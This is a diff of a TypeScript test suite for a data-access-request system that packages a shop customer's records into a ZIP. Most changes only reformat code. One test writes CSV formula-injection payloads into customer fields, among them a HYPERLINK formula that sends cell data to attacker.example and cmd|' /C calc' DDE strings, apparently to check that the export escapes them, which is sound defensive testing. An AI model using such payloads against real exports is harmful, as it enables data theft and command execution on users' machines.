@@ -72,13 +72,23 @@ async function aShopCustomerRequest({ orders = 3 }: { orders?: number } = {}) {
     city: 'York, "old town"',
     ticketBody: `Hello, this is ${fullName}; my parcel is late.\nThanks`,
   });
-  const neighbour = await insertShopCustomer(shop.sql, { email: uniqueEmail('neighbour'), fullName: `Neighbour ${crypto.randomUUID().slice(0, 8)}`, addresses: 2, orders: 2 });
+  const neighbour = await insertShopCustomer(shop.sql, {
+    email: uniqueEmail('neighbour'),
+    fullName: `Neighbour ${crypto.randomUUID().slice(0, 8)}`,
+    addresses: 2,
+    orders: 2,
+  });
   const verified = await createVerifiedRequest(db, { type: 'access', input: { email: subject.email, fullName: subject.fullName } });
   return { ...verified, subject, neighbour, runId: await latestRunId(verified.request.id) };
 }
 
 async function latestRunId(requestId: string): Promise<string> {
-  const [run] = await db.select({ id: fulfilmentRuns.id }).from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, requestId)).orderBy(desc(fulfilmentRuns.createdAt)).limit(1);
+  const [run] = await db
+    .select({ id: fulfilmentRuns.id })
+    .from(fulfilmentRuns)
+    .where(eq(fulfilmentRuns.requestId, requestId))
+    .orderBy(desc(fulfilmentRuns.createdAt))
+    .limit(1);
   if (!run) throw new Error('no run');
   return run.id;
 }
@@ -96,9 +106,12 @@ async function subjectRows(subject: ShopCustomer) {
   const rows = {
     customers: await shop.sql`select id, email, full_name, phone, created_at from customers where id = ${subject.customerId}`,
     addresses: await shop.sql`select id, line1, city, postcode, country from addresses where customer_id = ${subject.customerId}`,
-    orders: await shop.sql`select id, placed_at, total_pence, status, shipping_name, shipping_address from orders where customer_id = ${subject.customerId}`,
-    newsletter_subscriptions: await shop.sql`select id, email, subscribed_at, topic from newsletter_subscriptions where lower(email) = ${subject.email.toLowerCase()}`,
-    support_tickets: await shop.sql`select id, subject, body, opened_at, status from support_tickets where customer_id = ${subject.customerId}`,
+    orders:
+      await shop.sql`select id, placed_at, total_pence, status, shipping_name, shipping_address from orders where customer_id = ${subject.customerId}`,
+    newsletter_subscriptions:
+      await shop.sql`select id, email, subscribed_at, topic from newsletter_subscriptions where lower(email) = ${subject.email.toLowerCase()}`,
+    support_tickets:
+      await shop.sql`select id, subject, body, opened_at, status from support_tickets where customer_id = ${subject.customerId}`,
   };
   return Object.fromEntries(Object.entries(rows).map(([table, list]) => [table, [...list].map((row) => ({ ...row }))]));
 }
@@ -118,7 +131,10 @@ describe('[system] gathers an access request’s data into a package', () => {
     const results = await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId));
     expect(results).toEqual([expect.objectContaining({ sourceId: source.id, status: 'pending' })]);
     expect(await getRequest(db, { id: request.id })).toMatchObject({ status: 'new' });
-    expect((await listEvents(db, { requestId: request.id })).find((event) => event.action === 'data_gathering_started')).toMatchObject({ actorType: 'system', details: { runId } });
+    expect((await listEvents(db, { requestId: request.id })).find((event) => event.action === 'data_gathering_started')).toMatchObject({
+      actorType: 'system',
+      details: { runId },
+    });
   });
 
   it('the ZIP holds the subject’s rows of every table as JSON and CSV, none of a neighbour’s, and the manifest’s checksums match the files', async () => {
@@ -129,17 +145,33 @@ describe('[system] gathers an access request’s data into a package', () => {
     expect(run).toMatchObject({ status: 'succeeded', error: null });
     const files = await readStoredZip(run.packageStorageKey!);
     const zipBytes = await readStoredBytes(run.packageStorageKey!);
-    expect({ sizeBytes: run.packageSizeBytes, sha256: run.packageSha256 }).toEqual({ sizeBytes: zipBytes.length, sha256: sha256(zipBytes) });
+    expect({ sizeBytes: run.packageSizeBytes, sha256: run.packageSha256 }).toEqual({
+      sizeBytes: zipBytes.length,
+      sha256: sha256(zipBytes),
+    });
 
     const slug = source.slug;
     const tables = ['customers', 'addresses', 'orders', 'newsletter_subscriptions', 'support_tickets'];
-    expect([...files.keys()]).toEqual([`${slug}/${slug}.json`, ...tables.map((table) => `${slug}/${table}.csv`), 'manifest.json', 'index.html']);
+    expect([...files.keys()]).toEqual([
+      `${slug}/${slug}.json`,
+      ...tables.map((table) => `${slug}/${table}.csv`),
+      'manifest.json',
+      'index.html',
+    ]);
 
     const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
     expect(manifest).toMatchObject({
       reference,
       requestType: 'access',
-      sources: [{ name: source.name, slug, kind: 'postgres', status: 'succeeded', rowCounts: { customers: 1, addresses: 2, orders: 25, newsletter_subscriptions: 1, support_tickets: 1 } }],
+      sources: [
+        {
+          name: source.name,
+          slug,
+          kind: 'postgres',
+          status: 'succeeded',
+          rowCounts: { customers: 1, addresses: 2, orders: 25, newsletter_subscriptions: 1, support_tickets: 1 },
+        },
+      ],
     });
     expect(new Date(manifest.generatedAt).getTime()).not.toBeNaN();
     expect(manifest.files.map((file: { path: string }) => file.path)).toEqual([...files.keys()].slice(0, -2));
@@ -157,7 +189,9 @@ describe('[system] gathers an access request’s data into a package', () => {
       const columns = demoShopMap.tables.find((mapped) => mapped.table === table)!.export;
       const csvRecords = parse(files.get(`${slug}/${table}.csv`)!, { columns: true }) as Record<string, string>[];
       expect(Object.keys(csvRecords[0] ?? {})).toEqual(columns);
-      expect(csvRecords.sort(byId)).toEqual(expectedRows.map((row) => Object.fromEntries(columns.map((column) => [column, csvCell(row[column])]))));
+      expect(csvRecords.sort(byId)).toEqual(
+        expectedRows.map((row) => Object.fromEntries(columns.map((column) => [column, csvCell(row[column])]))),
+      );
     }
 
     const everything = [...files.values()].map((bytes) => bytes.toString('utf8')).join('\n');
@@ -182,10 +216,10 @@ describe('[system] gathers an access request’s data into a package', () => {
     const hostile = {
       fullName: '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
       city: "+cmd|' /C calc'!A0",
-      ticketBody: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      ticketBody: "@SUM(1+1)*cmd|' /C calc'!A0",
       ticketSubject: '\tTabbed=1+1',
       line1: '\rCarriage=1+1',
-      postcode: '-2+3+cmd|\' /C calc\'!A0',
+      postcode: "-2+3+cmd|' /C calc'!A0",
     };
     const { subject, runId } = await aShopCustomerRequest({ orders: 1 });
     await shop.sql`update customers set full_name = ${hostile.fullName} where id = ${subject.customerId}`;
@@ -223,7 +257,12 @@ describe('[system] gathers an access request’s data into a package', () => {
     const { request, runId } = await aShopCustomerRequest({ orders: 4 });
 
     const before = await getRequestFulfilment(db, { actor: team.auditor, requestId: request.id });
-    expect(before.gather).toMatchObject({ id: runId, status: 'running', package: null, results: [{ sourceName: source.name, status: 'pending', rowsDone: 0 }] });
+    expect(before.gather).toMatchObject({
+      id: runId,
+      status: 'running',
+      package: null,
+      results: [{ sourceName: source.name, status: 'pending', rowsDone: 0 }],
+    });
     expect(before.enabledSources.access).toBeGreaterThanOrEqual(1);
     expect(before.dryRun).toBeNull();
 
@@ -233,7 +272,14 @@ describe('[system] gathers an access request’s data into a package', () => {
     expect(after.gather).toMatchObject({
       status: 'succeeded',
       package: { sizeBytes: expect.any(Number), sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
-      results: [{ status: 'succeeded', rowsDone: 9, rowCounts: { customers: 1, addresses: 2, orders: 4, newsletter_subscriptions: 1, support_tickets: 1 }, attempts: 1 }],
+      results: [
+        {
+          status: 'succeeded',
+          rowsDone: 9,
+          rowCounts: { customers: 1, addresses: 2, orders: 4, newsletter_subscriptions: 1, support_tickets: 1 },
+          attempts: 1,
+        },
+      ],
     });
     expect(after.gather!.results[0]!.tables).toEqual([
       { name: 'customers', rows: 1, erasure: { action: 'anonymise', columns: ['email', 'full_name', 'phone'] } },
@@ -294,9 +340,17 @@ describe('[system] gathers an access request’s data into a package', () => {
     await buildPackage(db, { runId });
 
     const [run] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
-    expect(run).toMatchObject({ status: 'failed', packageStorageKey: null, error: expect.stringContaining('The package could not be built') });
+    expect(run).toMatchObject({
+      status: 'failed',
+      packageStorageKey: null,
+      error: expect.stringContaining('The package could not be built'),
+    });
     expect(run!.finishedAt).toBeInstanceOf(Date);
-    expect((await listEvents(db, { requestId: request.id })).at(-1)).toMatchObject({ action: 'data_gathering_failed', actorType: 'system', details: { runId, error: run!.error } });
+    expect((await listEvents(db, { requestId: request.id })).at(-1)).toMatchObject({
+      action: 'data_gathering_failed',
+      actorType: 'system',
+      details: { runId, error: run!.error },
+    });
     expect(readdirSync(path.join(storageDir, 'attachments'))).toEqual(attachmentsBefore);
     expect(existsSync(runStagingFolder(runId))).toBe(false);
   });
@@ -305,7 +359,11 @@ describe('[system] gathers an access request’s data into a package', () => {
     const { request, reference, runId } = await aShopCustomerRequest();
     const first = await gather(runId);
 
-    const { runId: secondRunId } = await startGathering(db, { actor: team.agent, reference, version: (await getRequest(db, { id: request.id })).version });
+    const { runId: secondRunId } = await startGathering(db, {
+      actor: team.agent,
+      reference,
+      version: (await getRequest(db, { id: request.id })).version,
+    });
     const second = await gather(secondRunId);
 
     expect(second).toMatchObject({ status: 'succeeded', startedById: team.agent.staffId });
@@ -315,7 +373,10 @@ describe('[system] gathers an access request’s data into a package', () => {
     expect(firstAfter!.packageDeletedAt).toEqual(second.finishedAt);
     // An agent gathering on a new request has started work on it.
     expect(await getRequest(db, { id: request.id })).toMatchObject({ status: 'in_progress', assigneeId: team.agent.staffId });
-    expect((await getRequestFulfilment(db, { actor: team.agent, requestId: request.id })).gather).toMatchObject({ id: secondRunId, startedByName: team.agent.name });
+    expect((await getRequestFulfilment(db, { actor: team.agent, requestId: request.id })).gather).toMatchObject({
+      id: secondRunId,
+      startedByName: team.agent.name,
+    });
   });
 
   it('an auditor may not start gathering: refused, and nothing is written', async () => {
@@ -323,7 +384,9 @@ describe('[system] gathers an access request’s data into a package', () => {
     const before = await snapshotRequest(db, { id: request.id });
     const runsBefore = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, request.id));
 
-    expect(await refusal(startGathering(db, { actor: team.auditor, reference, version: request.version }))).toMatchObject({ code: 'FORBIDDEN' });
+    expect(await refusal(startGathering(db, { actor: team.auditor, reference, version: request.version }))).toMatchObject({
+      code: 'FORBIDDEN',
+    });
 
     expect(await snapshotRequest(db, { id: request.id })).toEqual(before);
     expect(await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, request.id))).toEqual(runsBefore);
@@ -332,15 +395,28 @@ describe('[system] gathers an access request’s data into a package', () => {
   it('gathering again while a gather is running is refused', async () => {
     const { request, reference } = await aShopCustomerRequest();
 
-    expect(await refusal(startGathering(db, { actor: team.agent, reference, version: request.version }))).toMatchObject({ code: 'CONFLICT', message: expect.stringContaining('already running') });
+    expect(await refusal(startGathering(db, { actor: team.agent, reference, version: request.version }))).toMatchObject({
+      code: 'CONFLICT',
+      message: expect.stringContaining('already running'),
+    });
   });
 
   it('closing a request by hand stops its gathering: unfinished sources and the run fail with the reason, and a late job reads nothing', async () => {
     const { request, reference, runId } = await aShopCustomerRequest();
     const [result] = await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId));
-    await rejectRequest(db, { actor: team.agent, reference, version: request.version, basis: 'duplicate', message: 'You already have a request with us.' });
+    await rejectRequest(db, {
+      actor: team.agent,
+      reference,
+      version: request.version,
+      basis: 'duplicate',
+      message: 'You already have a request with us.',
+    });
 
-    expect((await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId)))[0]).toMatchObject({ status: 'failed', error: 'Stopped: the request was closed.', finishedAt: expect.any(Date) });
+    expect((await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId)))[0]).toMatchObject({
+      status: 'failed',
+      error: 'Stopped: the request was closed.',
+      finishedAt: expect.any(Date),
+    });
     expect((await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId)))[0]).toMatchObject({
       status: 'failed',
       error: 'Stopped: the request was closed before this source finished.',
@@ -361,7 +437,9 @@ describe('[system] gathers an access request’s data into a package', () => {
       const access = await createVerifiedRequest(db, { type: 'access' });
       expect(access.request.status).toBe('new');
       expect(await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, access.request.id))).toEqual([]);
-      const refused = await refusal(startGathering(db, { actor: team.agent, reference: access.reference, version: access.request.version }));
+      const refused = await refusal(
+        startGathering(db, { actor: team.agent, reference: access.reference, version: access.request.version }),
+      );
       expect(refused).toMatchObject({ code: 'VALIDATION', message: expect.stringContaining('Settings → Data sources') });
     } finally {
       await db.update(dataSources).set({ isEnabled: true }).where(eq(dataSources.id, source.id));
@@ -375,13 +453,19 @@ describe('[agent] releases a gathered package', () => {
   it('an older package cannot be released once the agent gathered again', async () => {
     const { request, reference, runId: firstRunId } = await aShopCustomerRequest();
     await gather(firstRunId);
-    const { runId: secondRunId } = await startGathering(db, { actor: team.agent, reference, version: (await getRequest(db, { id: request.id })).version });
+    const { runId: secondRunId } = await startGathering(db, {
+      actor: team.agent,
+      reference,
+      version: (await getRequest(db, { id: request.id })).version,
+    });
 
     const version = (await getRequest(db, { id: request.id })).version;
-    expect(await refusal(releasePackage(db, { actor: team.agent, reference, version, runId: firstRunId, message: 'Here.' }))).toMatchObject({
-      code: 'INVALID_TRANSITION',
-      message: 'A newer gathering replaced this package. Release the newest one once it is built.',
-    });
+    expect(await refusal(releasePackage(db, { actor: team.agent, reference, version, runId: firstRunId, message: 'Here.' }))).toMatchObject(
+      {
+        code: 'INVALID_TRANSITION',
+        message: 'A newer gathering replaced this package. Release the newest one once it is built.',
+      },
+    );
     await gather(secondRunId);
     await releasePackage(db, { actor: team.agent, reference, version, runId: secondRunId, message: 'Here is your data.' });
     expect((await getRequest(db, { id: request.id })).status).toBe('fulfilled');
@@ -407,10 +491,22 @@ describe('[agent] releases a gathered package', () => {
     }
     const failedRun = await gather(failed.runId);
     expect(failedRun.status).toBe('failed');
-    const failedResult = (await getRequestFulfilment(db, { actor: team.agent, requestId: failed.request.id })).gather!.results.find((result) => result.sourceName === 'Unreachable CRM');
+    const failedResult = (await getRequestFulfilment(db, { actor: team.agent, requestId: failed.request.id })).gather!.results.find(
+      (result) => result.sourceName === 'Unreachable CRM',
+    );
     expect(failedResult).toMatchObject({ status: 'failed', error: expect.stringMatching(/ECONNREFUSED|connect/) });
     const failedBefore = await snapshotRequest(db, { id: failed.request.id });
-    expect(await refusal(releasePackage(db, { actor: team.agent, reference: failed.reference, version: failed.request.version, runId: failed.runId, message: 'Here.' }))).toMatchObject({
+    expect(
+      await refusal(
+        releasePackage(db, {
+          actor: team.agent,
+          reference: failed.reference,
+          version: failed.request.version,
+          runId: failed.runId,
+          message: 'Here.',
+        }),
+      ),
+    ).toMatchObject({
       code: 'INVALID_TRANSITION',
     });
     expect(await snapshotRequest(db, { id: failed.request.id })).toEqual(failedBefore);
@@ -418,13 +514,17 @@ describe('[agent] releases a gathered package', () => {
     const { request, reference, runId } = await aShopCustomerRequest();
     await gather(runId);
     const before = await snapshotRequest(db, { id: request.id });
-    expect(await refusal(releasePackage(db, { actor: team.auditor, reference, version: request.version, runId, message: 'Here.' }))).toMatchObject({ code: 'FORBIDDEN' });
+    expect(
+      await refusal(releasePackage(db, { actor: team.auditor, reference, version: request.version, runId, message: 'Here.' })),
+    ).toMatchObject({ code: 'FORBIDDEN' });
     expect(await snapshotRequest(db, { id: request.id })).toEqual(before);
 
     await releasePackage(db, { actor: team.agent, reference, version: request.version, runId, message: 'Your data is attached.' });
     const released = await getRequest(db, { id: request.id });
     const afterFirst = await snapshotRequest(db, { id: request.id });
-    expect(await refusal(releasePackage(db, { actor: team.agent, reference, version: released.version, runId, message: 'Again.' }))).toMatchObject({
+    expect(
+      await refusal(releasePackage(db, { actor: team.agent, reference, version: released.version, runId, message: 'Again.' })),
+    ).toMatchObject({
       code: 'INVALID_TRANSITION',
       message: expect.stringContaining('already released'),
     });
@@ -438,7 +538,10 @@ describe('[system] removes a released package when its download link expires', (
     const { request, reference, runId } = await aShopCustomerRequest();
     const run = await gather(runId);
     await releasePackage(db, { actor: team.agent, reference, version: request.version, runId, message: 'Your data.' });
-    await db.update(requestAttachments).set({ expiresAt: new Date(Date.now() - 1000) }).where(eq(requestAttachments.requestId, request.id));
+    await db
+      .update(requestAttachments)
+      .set({ expiresAt: new Date(Date.now() - 1000) })
+      .where(eq(requestAttachments.requestId, request.id));
 
     const now = new Date();
     await deleteExpiredAttachments(db, { now });
@@ -446,7 +549,10 @@ describe('[system] removes a released package when its download link expires', (
     expect(await storedObjectExists(run.packageStorageKey!)).toBe(false);
     const [after] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
     expect(after).toMatchObject({ status: 'released', packageDeletedAt: now });
-    expect((await getRequestFulfilment(db, { actor: team.agent, requestId: request.id })).gather).toMatchObject({ status: 'released', package: null });
+    expect((await getRequestFulfilment(db, { actor: team.agent, requestId: request.id })).gather).toMatchObject({
+      status: 'released',
+      package: null,
+    });
   });
 });
 
@@ -473,7 +579,12 @@ describe('[system] removes unreleased packages after the download period', () =>
     expect(existsSync(path.dirname(leftover))).toBe(false);
     const [oldAfter] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, old.runId));
     expect(oldAfter).toMatchObject({ packageDeletedAt: now, packageSha256: oldRun.packageSha256 });
-    expect((await listEvents(db, { requestId: old.request.id })).at(-1)).toMatchObject({ action: 'data_package_deleted', details: { runId: old.runId } });
-    expect(await refusal(previewPackage(db, { actor: team.agent, reference: old.reference, runId: old.runId }))).toMatchObject({ code: 'NOT_FOUND' });
+    expect((await listEvents(db, { requestId: old.request.id })).at(-1)).toMatchObject({
+      action: 'data_package_deleted',
+      details: { runId: old.runId },
+    });
+    expect(await refusal(previewPackage(db, { actor: team.agent, reference: old.reference, runId: old.runId }))).toMatchObject({
+      code: 'NOT_FOUND',
+    });
   });
 });
